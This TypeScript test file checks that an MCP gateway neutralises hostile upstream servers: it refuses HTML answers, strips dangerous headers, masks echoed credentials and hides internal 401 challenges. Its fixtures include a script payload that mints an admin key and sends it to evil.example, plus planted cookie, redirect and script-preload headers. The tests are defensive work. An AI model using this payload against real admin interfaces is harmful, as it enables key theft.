/**
 * Hostile upstream answers (issue 15 items 1, 11 and 13), through the gateway's public HTTP
 * interface. The upstreams are hand-written (test/fixtures/hostile-upstream.ts): no real
 * MCP server answers with a page that mints keys, or echoes its credential on demand.
 *
 * - Item 1: an upstream's answer must never be active content on the gateway's origin,
 *   where the admin UI lives: only JSON and SSE bodies are relayed, with an allowlist of
 *   headers, `nosniff` and a sandboxing CSP; the UI trusts its own inline assets only.
 * - Item 11: an upstream that echoes the credential the gateway sent it shows a caller (and
 *   the log) a mask, never the secret, on every route.
 * - Item 13: an upstream 401 to a credential the gateway owns is the gateway's 502
 *   `upstream_auth_failed`, never the upstream's challenge naming its internal address.
 *
 * Every attack on a POST route runs on both request paths: the node:http fast lane (no
 * debug header) and the Hono route (`x-litellm-mcp-debug: true`).
 */
import { gzipSync } from "node:zlib";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { MCP_ACCEPT, rpc, startTestGateway, type TestGateway } from "../fixtures/gateway.js";
import { startBareTokenEndpoint, type BareTokenEndpoint } from "../fixtures/faulty-peers.js";
import { errorAnswer, resultAnswer, sseAnswer, startHostileUpstream, type HostileRequest, type HostileUpstream, type RawAnswer } from "../fixtures/hostile-upstream.js";
import { startUpstream, type Upstream } from "../fixtures/upstream-mcp.js";

const DEBUG = { "x-litellm-mcp-debug": "true" };
const LANES: Array<{ lane: string; headers: Record<string, string> }> = [
  { lane: "fast lane", headers: {} },
  { lane: "Hono route", headers: DEBUG },
];
const ROUTES = ["passthrough", "aggregate", "rest"] as const;
type Route = (typeof ROUTES)[number];
const ROUTE_LANES = ROUTES.flatMap((route) => LANES.map((lane) => ({ route, ...lane })));

// Distinct, long, recognisable credentials (each ends in a 4-character tail the mask keeps).
const BEARER_SECRET = "srv-bearer-5ecret-0123456789AbCd";
const BASIC_USER = "svc-user";
const BASIC_PASSWORD = "basic-pa55word-9876543210EfGh";
const API_KEY = "apikey-5ecret-1122334455IjKl";
const STATIC_HEADER = "static-hdr-5ecret-6677889900MnOp";
const PER_REQUEST = "per-request-5ecret-1357924680QrSt";

/** An internal address that an upstream's challenge names and no client may learn. */
const INTERNAL = "http://10.20.30.40:8443";
const INTERNAL_CHALLENGE = `Bearer resource_metadata="${INTERNAL}/.well-known/oauth-protected-resource", error="invalid_token"`;

/** The page of item 1: signed-in admins who open it would mint a master-scoped key and send it away. */
const KEY_MINTING_PAGE = `<!doctype html><html><body><script>fetch("/key/generate",{method:"POST",headers:{"content-type":"application/json"},body:"{}"}).then(r=>r.json()).then(k=>fetch("https://evil.example/?k="+k.key))</script></body></html>`;

const b64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

let upstreams: Record<string, HostileUpstream>;
let legacyUpstream: Upstream;
let tokens: BareTokenEndpoint;
let gateway: TestGateway;
/** A gateway whose one server delegates auth upstream (delegating servers keep /mcp off the fast lane, so they get their own). */
let delegating: TestGateway;
let limitedKey: string;

const SERVERS = ["plain", "basicsrv", "apikey", "statics", "m2m", "noauth", "deleg"] as const;

beforeAll(async () => {
  upstreams = Object.fromEntries(await Promise.all(SERVERS.map(async (name) => [name, await startHostileUpstream()] as const)));
  legacyUpstream = await startUpstream({ name: "legacy", legacySse: true });
  tokens = await startBareTokenEndpoint();
  gateway = await startTestGateway({
    servers: {
      plain: { url: upstreams.plain!.url, auth_type: "bearer_token", auth_value: BEARER_SECRET },
      basicsrv: { url: upstreams.basicsrv!.url, auth_type: "basic", auth_value: `${BASIC_USER}:${BASIC_PASSWORD}` },
      apikey: { url: upstreams.apikey!.url, auth_type: "api_key", auth_value: API_KEY },
      statics: { url: upstreams.statics!.url, static_headers: { "x-upstream-token": STATIC_HEADER } },
      m2m: { url: upstreams.m2m!.url, auth_type: "oauth2", token_url: tokens.tokenUrl, client_id: tokens.clientId, client_secret: tokens.clientSecret },
      noauth: { url: upstreams.noauth!.url },
      legacy: { url: legacyUpstream.url, transport: "sse" },
    },
  });
  delegating = await startTestGateway({ servers: { deleg: { url: upstreams.deleg!.url, auth_type: "oauth2", delegate_auth_to_upstream: true } } });
  limitedKey = await gateway.generateKey({ key_alias: "limited", object_permission: { mcp_servers: ["plain", "basicsrv", "apikey", "statics", "m2m", "noauth"] } });
});

afterAll(async () => {
  await Promise.allSettled([gateway?.close(), delegating?.close()]);
  await Promise.allSettled([...Object.values(upstreams ?? {}).map((upstream) => upstream.close()), legacyUpstream?.close(), tokens?.close()]);
});

afterEach(() => {
  for (const upstream of Object.values(upstreams)) upstream.respond = () => undefined;
});

interface Outcome {
  status: number;
  headers: Headers;
  text: string;
}

async function outcomeOf(response: Response): Promise<Outcome> {
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** Everything a client sees of an answer: status line aside, every header and the body. */
function seen(outcome: Outcome): string {
  return [...outcome.headers].map(([name, value]) => `${name}: ${value}`).join("\n") + "\n\n" + outcome.text;
}

/** POST a JSON-RPC message to `path` (`/{server}/mcp`, `/mcp`) with the limited key. */
async function postMcp(target: TestGateway, path: string, body: string, headers: Record<string, string> = {}, key: string | null = limitedKey): Promise<Outcome> {
  return outcomeOf(await target.fetch(path, { method: "POST", key, headers: { ...MCP_ACCEPT, ...headers }, body }));
}

/** A tool call on one of the three routes, with the limited key. */
async function callTool(route: Route, server: string, headers: Record<string, string>, args: Record<string, unknown> = { message: "hi" }): Promise<Outcome> {
  if (route === "passthrough") return postMcp(gateway, `/${server}/mcp`, rpc("tools/call", { name: "echo", arguments: args }), headers);
  if (route === "aggregate") return postMcp(gateway, "/mcp", rpc("tools/call", { name: `${server}-echo`, arguments: args }), headers);
  return outcomeOf(
    await gateway.fetch("/mcp-rest/tools/call", {
      method: "POST",
      key: limitedKey,
      headers: { "content-type": "application/json", ...headers },
      body: JSON.stringify({ name: "echo", server_name: server, arguments: args }),
    }),
  );
}

/** The JSON-RPC message of an answer, JSON or one SSE event. */
function messageOf(outcome: Outcome): { result?: { content?: Array<{ text?: string }>; isError?: boolean }; error?: { code: number; message: string; data?: { code?: string; server?: string } } } {
  const text = outcome.text.trimStart().startsWith("{") ? outcome.text : (outcome.text.split("\n").find((line) => line.startsWith("data:")) ?? "data: {}").slice(5);
  return JSON.parse(text) as ReturnType<typeof messageOf>;
}

/** The route's error: a JSON-RPC error on MCP routes, `{detail, error}` on REST. */
function errorOf(route: Route, outcome: Outcome): { code: string | undefined; message: string } {
  if (route === "rest") {
    const body = JSON.parse(outcome.text) as { detail: string; error: string };
    return { code: body.error, message: body.detail };
  }
  const error = messageOf(outcome).error;
  return { code: error?.data?.code, message: error?.message ?? "" };
}

function expectNoneOf(text: string, secrets: readonly string[], where: string): void {
  for (const secret of secrets) {
    expect(text, `${where}: ${secret}`).not.toContain(secret);
    expect(text, `${where}: ${secret} as base64`).not.toContain(b64(secret));
    expect(text, `${where}: ${secret}'s last 8 characters`).not.toContain(secret.slice(-8));
  }
}

// ---------------------------------------------------------------------------------------
// Item 1: an upstream's page runs on the gateway's origin
// ---------------------------------------------------------------------------------------

const hostilePage = (extra: Record<string, string | string[]> = {}): RawAnswer => ({
  status: 200,
  headers: { "content-type": "text/html; charset=utf-8", "set-cookie": "gatehouse_session=attacker; Path=/", location: "https://evil.example/", ...extra },
  body: KEY_MINTING_PAGE,
});

function expectPageRefused(outcome: Outcome, server: string, status = 502): void {
  expect(outcome.status, outcome.text).toBe(status);
  expect(outcome.headers.get("content-type")).toContain("application/json");
  expect(outcome.text).not.toContain("<script");
  expect(outcome.text).not.toContain("evil.example");
  expect(outcome.headers.get("set-cookie")).toBeNull();
  expect(outcome.headers.get("location")).toBeNull();
  expect(outcome.text).toContain(`'${server}'`);
}

describe("item 1: an upstream's answer never becomes active content on the gateway's origin", () => {
  it("an upstream's text/html answer to GET /{server}/mcp of a delegating server is refused for an anonymous caller, not run on the gateway's origin", async () => {
    upstreams.deleg!.respond = (request) => (request.method === "GET" ? hostilePage() : undefined);
    const outcome = await outcomeOf(await delegating.fetch("/deleg/mcp", { key: null, headers: { accept: "text/event-stream" } }));
    expectPageRefused(outcome, "deleg");
    expect(JSON.parse(outcome.text)).toMatchObject({ error: { code: -32000, data: { code: "upstream_error", server: "deleg", upstream_status: 200 } } });
    expect(upstreams.deleg!.requests.at(-1)?.method).toBe("GET");
  });

  it("an upstream's text/html answer to GET /{server}/mcp of a keyed server is refused (GET takes the Hono route only)", async () => {
    upstreams.plain!.respond = (request) => (request.method === "GET" ? hostilePage() : undefined);
    const outcome = await outcomeOf(await gateway.fetch("/plain/mcp", { key: limitedKey, headers: { accept: "text/event-stream" } }));
    expectPageRefused(outcome, "plain");
  });

  it.each(LANES)("an upstream's text/html answer to POST /{server}/mcp is a 502 naming the server ($lane)", async ({ headers }) => {
    upstreams.plain!.respond = (request) => (request.rpc === "tools/list" ? hostilePage() : undefined);
    expectPageRefused(await postMcp(gateway, "/plain/mcp", rpc("tools/list"), headers), "plain");
  });

  it.each(LANES)("an upstream answer with a body and no Content-Type is refused; an empty one (a notification's 202) still relays ($lane)", async ({ headers }) => {
    // The 202 comes chunked, of no declared length: the gateway has to find out that it is empty.
    upstreams.plain!.respond = (request) =>
      request.rpc === "tools/list" ? { status: 200, body: KEY_MINTING_PAGE } : request.id === undefined ? { status: 202, headers: { "transfer-encoding": "chunked" } } : undefined;
    const refused = await postMcp(gateway, "/plain/mcp", rpc("tools/list"), headers);
    expectPageRefused(refused, "plain");
    expect(refused.text).toContain("without a Content-Type");
    const accepted = await postMcp(gateway, "/plain/mcp", JSON.stringify({ jsonrpc: "2.0", method: "notifications/initialized" }), headers);
    expect(accepted.status).toBe(202);
    expect(accepted.text).toBe("");
  });

  it.each(LANES)("the upstream's Set-Cookie, Location, Link, Refresh, CSP and CORS headers never reach the client, and every relayed answer (JSON, SSE, 202) carries nosniff and a sandboxing CSP ($lane)", async ({ headers }) => {
    const planted = {
      "set-cookie": ["gatehouse_session=attacker; Path=/", "other=1; Path=/ui"],
      location: "https://evil.example/",
      link: "<https://evil.example/x.js>; rel=preload; as=script",
      refresh: "0;url=https://evil.example/",
      "content-security-policy": "script-src *",
      "access-control-allow-origin": "*",
      "access-control-allow-credentials": "true",
      "x-frame-options": "ALLOWALL",
      "mcp-session-id": "session-from-upstream",
      "retry-after": "7",
    };
    upstreams.plain!.respond = (request) =>
      request.rpc === "tools/list"
        ? resultAnswer(request, { tools: [] }, { ...planted, "set-cookie": "gatehouse_session=attacker; Path=/" })
        : request.rpc === "ping"
          ? sseAnswer({ jsonrpc: "2.0", id: request.id, result: {} }, { location: "https://evil.example/" })
          : request.id === undefined
            ? { status: 202, headers: { "set-cookie": "x=1; Path=/", location: "https://evil.example/" } }
            : undefined;
    const json = await postMcp(gateway, "/plain/mcp", rpc("tools/list"), headers);
    const sse = await postMcp(gateway, "/plain/mcp", rpc("ping"), headers);
    const accepted = await postMcp(gateway, "/plain/mcp", JSON.stringify({ jsonrpc: "2.0", method: "notifications/initialized" }), headers);
    expect([json.status, sse.status, accepted.status]).toEqual([200, 200, 202]);
    // Relayed, bound to the caller's key (issue 15 item 3): `<upstream id>.<tag>`.
    expect(json.headers.get("mcp-session-id")).toMatch(/^session-from-upstream\.[\w-]+$/);
    expect(json.headers.get("retry-after")).toBe("7");
    expect(sse.headers.get("content-type")).toContain("text/event-stream");
    for (const [what, outcome] of [["JSON", json], ["SSE", sse], ["202", accepted]] as const) {
      for (const name of ["set-cookie", "location", "link", "refresh", "access-control-allow-origin", "access-control-allow-credentials"]) {
        expect(outcome.headers.get(name), `${what}: ${name}`).toBeNull();
      }
      expect(outcome.headers.get("x-frame-options"), what).not.toBe("ALLOWALL");
      expect(outcome.headers.get("x-content-type-options"), what).toBe("nosniff");
      expect(outcome.headers.get("content-security-policy"), what).toBe("sandbox; default-src 'none'");
    }
  });

  it.each(LANES)("an upstream's JSON error relays as sent; a text/html 404 keeps its status (the client's session is gone) with the gateway's JSON error instead of the page ($lane)", async ({ headers }) => {
    upstreams.plain!.respond = (request) => (request.rpc === "tools/list" ? { ...errorAnswer(request, -32001, "busy, try later", 503), headers: { "content-type": "application/json", "retry-after": "3" } } : undefined);
    const json = await postMcp(gateway, "/plain/mcp", rpc("tools/list"), headers);
    expect(json.status).toBe(503);
    expect(JSON.parse(json.text)).toEqual({ jsonrpc: "2.0", id: 1, error: { code: -32001, message: "busy, try later" } });
    expect(json.headers.get("retry-after")).toBe("3");
    upstreams.plain!.respond = (request) => (request.rpc === "tools/list" ? { status: 404, headers: { "content-type": "text/html" }, body: KEY_MINTING_PAGE } : undefined);
    const page = await postMcp(gateway, "/plain/mcp", rpc("tools/list"), headers);
    expectPageRefused(page, "plain", 404);
    expect(messageOf(page).error).toMatchObject({ code: -32000, data: { code: "upstream_error", server: "plain" } });
  });

  it.each(LANES)("a compressed body the gateway did not ask for is refused: it could be neither checked nor scrubbed ($lane)", async ({ headers }) => {
    upstreams.plain!.respond = (request) =>
      request.rpc === "tools/list" ? { status: 200, headers: { "content-type": "application/json", "content-encoding": "gzip" }, body: gzipSync(KEY_MINTING_PAGE) } : undefined;
    const outcome = await postMcp(gateway, "/plain/mcp", rpc("tools/list"), headers);
    expect(outcome.status).toBe(502);
    expect(outcome.headers.get("content-encoding")).toBeNull();
    expect(outcome.text).toContain("compressed");
    expect(upstreams.plain!.requests.at(-1)?.headers["accept-encoding"]).toBeUndefined();
  });

  it("a delegating server's 401 with an HTML body keeps its challenge (pointed at the gateway) and the page is dropped (delegating servers take the Hono route only)", async () => {
    upstreams.deleg!.respond = (request) =>
      request.method === "POST" ? { status: 401, headers: { "content-type": "text/html", "www-authenticate": 'Bearer realm="upstream"', "set-cookie": "a=1; Path=/" }, body: KEY_MINTING_PAGE } : undefined;
    const outcome = await outcomeOf(await delegating.fetch("/deleg/mcp", { method: "POST", key: null, headers: MCP_ACCEPT, body: rpc("tools/list") }));
    expect(outcome.status).toBe(401);
    expect(outcome.headers.get("www-authenticate")).toBe('Bearer realm="upstream"');
    expect(outcome.text).toBe("");
    expect(outcome.headers.get("content-type")).toBeNull();
    expect(outcome.headers.get("set-cookie")).toBeNull();
    expect(outcome.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("a legacy SSE server's bridged answers carry nosniff and the sandboxing CSP too", async () => {
    const outcome = await postMcp(gateway, "/legacy/mcp", rpc("initialize", { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "t", version: "1" } }), {}, gateway.masterKey);
    expect(outcome.status, outcome.text).toBe(200);
    expect(outcome.headers.get("x-content-type-options")).toBe("nosniff");
    expect(outcome.headers.get("content-security-policy")).toBe("sandbox; default-src 'none'");
    await gateway.fetch("/legacy/mcp", { method: "DELETE", headers: { "mcp-session-id": outcome.headers.get("mcp-session-id") ?? "" } });
  });

  it("the UI's pages trust no script or stylesheet the gateway's origin serves (where /{server}/mcp relays upstream answers): only their inline assets, by hash", async () => {
    const page = await gateway.fetch("/ui/login", { key: null });
    expect(page.status).toBe(200);
    const csp = page.headers.get("content-security-policy") ?? "";
    expect(csp).toMatch(/script-src 'sha256-[A-Za-z0-9+/]+=*';/);
    expect(csp).toMatch(/style-src 'sha256-[A-Za-z0-9+/]+=*';/);
    expect(csp).not.toContain("'self'");
    const html = await page.text();
    expect(html).not.toMatch(/<script[^>]*\bsrc=/);
    expect(html).not.toMatch(/<link[^>]*stylesheet/);
  });
});

// ---------------------------------------------------------------------------------------
// Item 11: upstream error text echoes credentials
// ---------------------------------------------------------------------------------------

/** What a careless upstream says when it refuses: the credential as it got it, and base64-encoded. */
const echoing = (secret: string) => `invalid credentials: Bearer ${secret} (${b64(secret)})`;

describe("item 11: an upstream's echo of the gateway's credential shows callers and the log a mask", () => {
  it.each(LANES)("/{server}/mcp: a JSON-RPC error echoing the server's bearer secret shows a limited key the mask, not the secret ($lane)", async ({ headers }) => {
    upstreams.plain!.respond = (request) => (request.rpc === "tools/call" ? errorAnswer(request, -32603, echoing(BEARER_SECRET)) : undefined);
    const outcome = await callTool("passthrough", "plain", headers);
    expect(outcome.status).toBe(200);
    expect(messageOf(outcome).error?.message).toContain("invalid credentials: Bearer ****AbCd");
    expectNoneOf(seen(outcome), [BEARER_SECRET], "pass-through");
    expect(upstreams.plain!.requests.at(-1)?.headers["authorization"]).toBe(`Bearer ${BEARER_SECRET}`);
  });

  it.each(LANES)("/{server}/mcp: an SSE answer with the secret cut across two chunks is scrubbed as it streams ($lane)", async ({ headers }) => {
    upstreams.plain!.respond = (request) => {
      if (request.rpc !== "tools/call") return undefined;
      const event = `event: message\ndata: ${JSON.stringify({ jsonrpc: "2.0", id: request.id, error: { code: -32603, message: echoing(BEARER_SECRET) } })}\n\n`;
      const cut = event.indexOf(BEARER_SECRET) + 10;
      return { status: 200, headers: { "content-type": "text/event-stream" }, chunks: [event.slice(0, cut), event.slice(cut)] };
    };
    const outcome = await callTool("passthrough", "plain", headers);
    expect(outcome.headers.get("content-type")).toContain("text/event-stream");
    expect(messageOf(outcome).error?.message).toContain("Bearer ****AbCd");
    expectNoneOf(seen(outcome), [BEARER_SECRET], "pass-through SSE");
  });

  it.each(LANES)("/{server}/mcp: a large JSON answer of unknown length, which streams through, is scrubbed too ($lane)", async ({ headers }) => {
    const padding = "x".repeat(40_000);
    upstreams.plain!.respond = (request) => {
      if (request.rpc !== "tools/call") return undefined;
      const body = JSON.stringify({ jsonrpc: "2.0", id: request.id, result: { content: [{ type: "text", text: `${padding} ${BEARER_SECRET} ${padding} ${BEARER_SECRET}` }] } });
      const cut = body.indexOf(BEARER_SECRET) + 5;
      return { status: 200, headers: { "content-type": "application/json" }, chunks: [body.slice(0, cut), body.slice(cut)] };
    };
    const outcome = await callTool("passthrough", "plain", headers);
    expect(outcome.status).toBe(200);
    expect(messageOf(outcome).result?.content?.[0]?.text).toBe(`${padding} ****AbCd ${padding} ****AbCd`);
    expectNoneOf(seen(outcome), [BEARER_SECRET], "pass-through streamed JSON");
  });

  it.each(ROUTE_LANES)("$route ($lane): an upstream's JSON-RPC error and an isError tool result echoing the secret show the mask", async ({ route, headers }) => {
    upstreams.plain!.respond = (request) => (request.rpc === "tools/call" ? errorAnswer(request, -32603, echoing(BEARER_SECRET)) : undefined);
    const failed = await callTool(route, "plain", headers);
    expect(errorOf(route, failed).message).toContain("Bearer ****AbCd");
    expectNoneOf(seen(failed), [BEARER_SECRET], `${route} error`);
    upstreams.plain!.respond = (request) => (request.rpc === "tools/call" ? resultAnswer(request, { content: [{ type: "text", text: echoing(BEARER_SECRET) }], isError: true }) : undefined);
    const toolError = await callTool(route, "plain", headers);
    const result = route === "rest" ? (JSON.parse(toolError.text) as { content: Array<{ text: string }> }) : messageOf(toolError).result;
    expect(result?.content?.[0]?.text).toContain("Bearer ****AbCd");
    expectNoneOf(seen(toolError), [BEARER_SECRET], `${route} tool result`);
  });

  /** An upstream that says which credentials it got, every way it got them. */
  const echoEveryCredential = (request: HostileRequest): RawAnswer | undefined => {
    if (request.rpc !== "tools/call") return undefined;
    const got = ["authorization", "x-api-key", "x-upstream-token"].map((name) => `${name}=${request.headers[name] ?? ""}`).join("; ");
    const basic = /^Basic (.+)$/.exec(request.headers["authorization"] ?? "")?.[1];
    const decoded = basic === undefined ? "" : ` user:pass=${Buffer.from(basic, "base64").toString("utf8")}`;
    return errorAnswer(request, -32603, `refused: ${got}${decoded} urlencoded=${encodeURIComponent(request.headers["authorization"] ?? "")}`);
  };

  it.each(
    ROUTES.flatMap((route) =>
      ([
        { credential: "basic (the base64 value, user:pass and the password)", server: "basicsrv", secrets: [BASIC_PASSWORD, b64(`${BASIC_USER}:${BASIC_PASSWORD}`)], extra: {} },
        { credential: "api_key", server: "apikey", secrets: [API_KEY], extra: {} },
        { credential: "a static_headers value", server: "statics", secrets: [STATIC_HEADER], extra: {} },
        { credential: "a per-request x-mcp-{server}-authorization header", server: "noauth", secrets: [PER_REQUEST], extra: { "x-mcp-noauth-authorization": `Bearer ${PER_REQUEST}` } },
      ] as Array<{ credential: string; server: string; secrets: string[]; extra: Record<string, string> }>).map((variant) => ({ route, ...variant })),
    ),
  )("$route: $credential is scrubbed from an upstream's echo", async ({ route, server, secrets, extra }) => {
    upstreams[server]!.respond = echoEveryCredential;
    const outcome = await callTool(route, server, extra);
    expect(errorOf(route, outcome).message).toContain("****");
    expectNoneOf(seen(outcome), secrets, route);
    // The upstream did get them: they were in play.
    expect(JSON.stringify(upstreams[server]!.requests.at(-1)?.headers)).toContain(secrets[0] === BASIC_PASSWORD ? b64(`${BASIC_USER}:${BASIC_PASSWORD}`) : secrets[0]);
  });

  it.each(ROUTES)("%s: the M2M access token the gateway fetched is scrubbed from an upstream's echo", async (route) => {
    upstreams.m2m!.respond = echoEveryCredential;
    const outcome = await callTool(route, "m2m", {});
    const token = /^Bearer (.+)$/.exec(upstreams.m2m!.requests.at(-1)?.headers["authorization"] ?? "")?.[1];
    expect(tokens.issued()).toContain(token);
    expect(errorOf(route, outcome).message).toContain("****");
    expectNoneOf(seen(outcome), [token!], route);
  });

  it("the log never holds the secret an upstream echoed: an HTTP 500 body, a JSON-RPC error, a broken-off stream", async () => {
    upstreams.plain!.respond = (request) => (request.rpc === "tools/call" ? { status: 500, headers: { "content-type": "text/plain" }, body: `backend said: token ${BEARER_SECRET} is not valid` } : undefined);
    for (const route of ROUTES) await callTool(route, "plain", {});
    upstreams.plain!.respond = (request) => (request.rpc === "tools/call" ? errorAnswer(request, -32603, echoing(BEARER_SECRET), 500) : undefined);
    for (const route of ROUTES) await callTool(route, "plain", DEBUG);
    const logged = JSON.stringify(gateway.logs);
    expect(logged).toContain("****AbCd");
    expectNoneOf(logged, [BEARER_SECRET], "log");
  });

  it("the UI's tool result and tool error show the mask, not the secret", async () => {
    const form = await fetch(new URL("/ui/login", gateway.url), { redirect: "manual" });
    const loginCookie = /gatehouse_login_csrf=([^;]+)/.exec(form.headers.getSetCookie().join("\n"))![1]!;
    const loginCsrf = /name="csrf" value="([^"]+)"/.exec(await form.text())![1]!;
    const signedIn = await fetch(new URL("/ui/login", gateway.url), {
      method: "POST",
      redirect: "manual",
      headers: { cookie: `gatehouse_login_csrf=${loginCookie}` },
      body: new URLSearchParams({ csrf: loginCsrf, key: limitedKey }),
    });
    const session = /gatehouse_session=([^;]+)/.exec(signedIn.headers.getSetCookie().join("\n"))![1]!;
    const cookie = `gatehouse_session=${session}`;
    const toolsPage = await fetch(new URL("/ui/mcp/servers/plain/tools?tool=echo", gateway.url), { headers: { cookie } });
    const csrf = /name="csrf" value="([^"]+)"/.exec(await toolsPage.text())![1]!;
    const call = async () =>
      (
        await fetch(new URL("/ui/mcp/servers/plain/tools/call", gateway.url), {
          method: "POST",
          headers: { cookie, "content-type": "application/x-www-form-urlencoded" },
          body: new URLSearchParams({ csrf, tool: "echo", raw_arguments: JSON.stringify({ message: "ui" }) }).toString(),
        })
      ).text();
    upstreams.plain!.respond = (request) => (request.rpc === "tools/call" ? resultAnswer(request, { content: [{ type: "text", text: echoing(BEARER_SECRET) }], isError: true }) : undefined);
    const result = await call();
    expect(result).toContain("****AbCd");
    expectNoneOf(result, [BEARER_SECRET], "UI tool result");
    upstreams.plain!.respond = (request) => (request.rpc === "tools/call" ? errorAnswer(request, -32603, echoing(BEARER_SECRET)) : undefined);
    const failed = await call();
    expect(failed).toContain("****AbCd");
    expectNoneOf(failed, [BEARER_SECRET], "UI tool error");
  });
});

// ---------------------------------------------------------------------------------------
// Item 13: upstream 401s for credentials the gateway owns
// ---------------------------------------------------------------------------------------

const refusal = (): RawAnswer => ({
  status: 401,
  headers: { "content-type": "application/json", "www-authenticate": INTERNAL_CHALLENGE },
  body: JSON.stringify({ error: "invalid_token", error_description: `token refused by ${INTERNAL}` }),
});

function expectAuthFailed(route: Route, outcome: Outcome, server: string, remedy: RegExp): void {
  expect(outcome.status, outcome.text).toBe(route === "aggregate" ? 200 : 502);
  expect(outcome.headers.get("www-authenticate")).toBeNull();
  expect(seen(outcome)).not.toContain("10.20.30.40");
  const error = errorOf(route, outcome);
  expect(error.code).toBe("upstream_auth_failed");
  expect(error.message).toContain(`'${server}'`);
  expect(error.message).toMatch(remedy);
  if (route !== "rest") expect(messageOf(outcome).error?.code).toBe(-32000);
}

describe("item 13: an upstream 401 to a credential the gateway owns is the gateway's 502, never the upstream's challenge", () => {
  it.each(ROUTE_LANES)("$route ($lane): a bearer_token the upstream refuses is 502 upstream_auth_failed naming the server and auth_value, without the upstream's WWW-Authenticate", async ({ route, headers }) => {
    upstreams.plain!.respond = () => refusal();
    expectAuthFailed(route, await callTool(route, "plain", headers), "plain", /auth_value/);
  });

  it.each(ROUTE_LANES)("$route ($lane): an M2M token the upstream refuses is retried once with a fresh token, then 502 upstream_auth_failed naming the client credentials", async ({ route, headers }) => {
    upstreams.m2m!.respond = () => refusal();
    const before = upstreams.m2m!.requests.length;
    const outcome = await callTool(route, "m2m", headers);
    expectAuthFailed(route, outcome, "m2m", /client_id, client_secret/);
    const sent = upstreams.m2m!.requests.slice(before).map((request) => request.headers["authorization"]);
    expect(sent).toHaveLength(2);
    expect(new Set(sent).size).toBe(2);
    for (const value of sent) expect(tokens.issued()).toContain(value!.replace(/^Bearer /, ""));
  });

  it.each(ROUTE_LANES)("$route ($lane): an upstream 401 to the client's own x-mcp-{server}-authorization is a 401 naming those headers, without the upstream's challenge", async ({ route, headers }) => {
    upstreams.noauth!.respond = () => refusal();
    const outcome = await callTool(route, "noauth", { ...headers, "x-mcp-noauth-authorization": `Bearer ${PER_REQUEST}` });
    expect(outcome.status, outcome.text).toBe(route === "aggregate" ? 200 : 401);
    expect(outcome.headers.get("www-authenticate")).toBeNull();
    expect(seen(outcome)).not.toContain("10.20.30.40");
    const error = errorOf(route, outcome);
    expect(error.code).toBe("upstream_auth_failed");
    expect(error.message).toContain("x-mcp-noauth-* headers");
    expectNoneOf(seen(outcome), [PER_REQUEST], route);
  });

  it("a legacy SSE server's 401 to the gateway's credential is 502 upstream_auth_failed too, without its challenge (legacy servers take the Hono route only)", async () => {
    legacyUpstream.failNext({ status: 401, headers: { "www-authenticate": INTERNAL_CHALLENGE }, body: { error: "invalid_token" } }, 1, "GET");
    const outcome = await postMcp(gateway, "/legacy/mcp", rpc("initialize", { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "t", version: "1" } }), {}, gateway.masterKey);
    expectAuthFailed("passthrough", outcome, "legacy", /auth_type/);
  });

  it.each(ROUTE_LANES)("$route ($lane): an upstream 401 to a server with no credential configured says to configure auth_type", async ({ route, headers }) => {
    upstreams.noauth!.respond = () => refusal();
    expectAuthFailed(route, await callTool(route, "noauth", headers), "noauth", /auth_type/);
  });
});
